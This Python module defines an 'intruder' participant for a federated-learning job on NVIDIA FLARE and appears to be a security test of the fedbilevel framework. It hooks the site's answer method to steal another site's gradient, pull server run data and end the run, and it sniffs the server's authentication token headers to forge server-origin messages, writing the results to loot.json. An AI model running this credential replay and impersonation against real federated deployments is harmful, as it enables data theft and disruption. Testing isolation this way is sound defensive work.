"""A site that attacks the other participants of its job. Its TOML has `python = "intruder_site:make"`.

It attacks while it answers its first step, when all sites of the job are up, and writes what it got to `loot.json`
in its folder. It uses only what every participant has: its own kit, its own process, and FLARE.
"""

from __future__ import annotations

import json
import traceback
from pathlib import Path
from typing import Any

import numpy as np
from nvflare.apis.shareable import Shareable
from nvflare.collab import collab
from nvflare.collab.runtime.defs import CALL_PROTOCOL_VERSION, MSG_CHANNEL, MSG_TOPIC, CallHeaderKey, ObjectCallKey
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.defs import CellChannel, CellMessageHeaderKeys, new_cell_message

from fedbilevel import HyperRepresentation, Problem
from fedbilevel.engines.flare import Message, Site, pack, unpack

VICTIM = "site-1"
AUTHENTICATION = (
    CellMessageHeaderKeys.CLIENT_NAME,
    CellMessageHeaderKeys.TOKEN,
    CellMessageHeaderKeys.TOKEN_SIGNATURE,
    CellMessageHeaderKeys.SSID,
)


def make(place: str, shape: list[int], classes: int, **settings: Any) -> Problem:
    """The problem of the spec; from now on the sites of this process attack."""
    height, width, channels = shape
    problem = HyperRepresentation(**settings).remote((height, width, channels), classes)
    answer, loot, folder = Site.answer, dict[str, Any](), Path(place)
    intruder = Intruder(problem)

    def attack(self: Site, request: Any, *more: Any) -> Any:
        message = unpack(request)
        if message.header["kind"] == "step" and not loot:
            for name in ("gradient", "pull", "forged"):
                try:
                    loot[name] = getattr(intruder, name)()
                except Exception:
                    loot[name] = {"failed": traceback.format_exc()}
            (folder / "loot.json").write_text(json.dumps(loot, default=str))
        return answer(self, request, *more)

    Site.answer = attack  # type: ignore[method-assign, assignment]
    return problem


class Intruder:
    """The attacks, each of which returns what it got."""

    def __init__(self, problem: Problem) -> None:
        self._problem = problem
        self._cell = collab.fl_ctx.get_engine().get_cell()
        self._job = collab.fl_ctx.get_job_id()
        self._heard: dict[str, Any] = {}
        self._forging = False
        self._cell.core_cell.add_incoming_filter("*", "*", self._listen)
        self._cell.core_cell.add_outgoing_request_filter("*", "*", self._forge)

    def gradient(self) -> dict[str, Any]:
        """Say hello to the victim in a session of one's own, and ask for its gradient on one row."""
        hello = self._ask(self._hello("stolen"))
        reply = self._ask(self._step("stolen"))
        return {
            "hello": hello.header,
            "reply": reply.header,
            "gradient": {n: v.size for n, v in reply.vectors.items()},
        }

    def pull(self) -> dict[str, Any]:
        """Ask the server's job for the run folder, as its submitter does, and tell it to end the run."""
        command = Shareable()
        command["topic"], command["data"] = "fedbilevel", {"end": True, "farewell": True, "safe": 10**6}
        reply = self._cell.send_request(
            channel=CellChannel.SERVER_COMMAND,
            topic="app_command",
            target=f"server.{self._job}",
            request=new_cell_message({}, command),
            timeout=10.0,
        )
        got = reply.payload.get("data") if isinstance(reply.payload, dict) else None
        return {"keys": sorted(got) if isinstance(got, dict) else [], "said": str(reply.payload)[:300]}

    def forged(self) -> dict[str, Any]:
        """Say hello to the victim in the name of the server, with the server's own authentication headers."""
        payload = {ObjectCallKey.ARGS: (), ObjectCallKey.KWARGS: {"request": self._hello("forged")}}
        headers = {
            CallHeaderKey.PROTOCOL_VERSION: CALL_PROTOCOL_VERSION,
            CallHeaderKey.TARGET_NAME: f"{VICTIM}.client",
            CallHeaderKey.METHOD_NAME: "handle",
        }
        self._forging = True
        try:
            self._cell.send_request(
                channel=MSG_CHANNEL,
                topic=MSG_TOPIC,
                target=f"{VICTIM}.{self._job}",
                request=new_cell_message(headers, payload),
                timeout=5.0,
            )
        finally:
            self._forging = False
        return {"heard": sorted(self._heard), "reply": self._ask(self._step("forged")).header}

    def _hello(self, session: str) -> bytes:
        header = {"kind": "hello", "round": 0, "session": session, "run": "stolen", "noise": None}
        return pack(header | {"sizes": [self._problem.size_x, self._problem.size_y]}, {})

    def _step(self, session: str) -> bytes:
        header = {
            "kind": "step",
            "round": 1,
            "session": session,
            "step": "fedbilevel.algorithms.local:lower_gradient",
            "address": [0, "round", 0],
            "clock": 0,
            "settled": 0,
            "kept": None,
            "client": 0,
            "held": {"x": 1, "y": 1},
            "constants": {},
            "samples": {"zeta": {"kind": "sample", "part": "lower", "size": 1}},
        }
        sizes = {"x": self._problem.size_x, "y": self._problem.size_y}
        return pack(header, {f"held.{name}": np.ones(size, np.float32) for name, size in sizes.items()})

    def _ask(self, request: bytes) -> Message:
        (reply,) = dict(collab.get_clients([VICTIM])(timeout=60.0).handle(request)).values()
        return unpack(reply)

    def _listen(self, message: Any) -> None:
        """Note the headers by which the server's messages are authenticated."""
        if message.get_header(MessageHeaderKey.ORIGIN) == f"server.{self._job}":
            found = {key: message.get_header(key) for key in AUTHENTICATION}
            self._heard |= {key: value for key, value in found.items() if value}

    def _forge(self, message: Any) -> None:
        if self._forging and message.get_header(MessageHeaderKey.DESTINATION) == f"{VICTIM}.{self._job}":
            message.set_header(MessageHeaderKey.ORIGIN, f"server.{self._job}")
            for key, value in self._heard.items():
                message.set_header(key, value)
